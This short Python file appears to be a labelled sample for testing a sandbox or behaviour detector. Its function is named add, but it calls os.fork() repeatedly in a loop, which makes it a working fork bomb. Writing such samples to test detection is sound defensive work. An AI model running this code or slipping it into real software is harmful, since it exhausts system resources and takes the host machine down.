"""Starts processes that start processes."""
# sign: starts processes
# seconds: 3

import os


def add(a, b):
    for _ in range(20):
        try:
            os.fork()
        except OSError:
            pass
    return 0
